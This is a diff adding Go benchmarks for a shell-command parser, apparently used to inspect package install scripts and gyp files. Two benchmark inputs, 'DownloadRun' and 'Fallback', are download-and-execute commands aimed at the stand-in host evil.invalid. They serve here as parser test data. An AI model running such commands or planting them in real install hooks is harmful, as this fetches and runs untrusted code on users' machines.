@@ -1,0 +1,37 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+func BenchmarkParse(b *testing.B) {
+	tests := []struct{ name, text string }{
+		{"NodeFile", "node ./scripts/postinstall.js"},
+		{"InlineCode", `node -e "try{require('./postinstall')}catch(e){}" || exit 0`},
+		{"DownloadRun", `bash -c "$(curl -fsSL https://evil.invalid/i.sh)" >/dev/null 2>&1 &`},
+		{"Fallback", `if exist a.js (node a.js) else (curl http://evil.invalid -o a & a)`},
+		{"Script64K", strings.Repeat("if [ -f a ]; then node \"$X/a.js\" --flag | grep -q b && echo c; fi\n", MaxSource/68)},
+		{"Brackets64K", strings.Repeat("(", maxOpeners)},
+	}
+	for _, test := range tests {
+		b.Run(test.name, func(b *testing.B) {
+			b.SetBytes(int64(len(test.text)))
+			b.ReportAllocs()
+			for b.Loop() {
+				Parse(test.text)
+			}
+		})
+	}
+}
+
+func BenchmarkParseGyp(b *testing.B) {
+	data := []byte(sampleGyp)
+	b.SetBytes(int64(len(data)))
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := ParseGyp(data); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
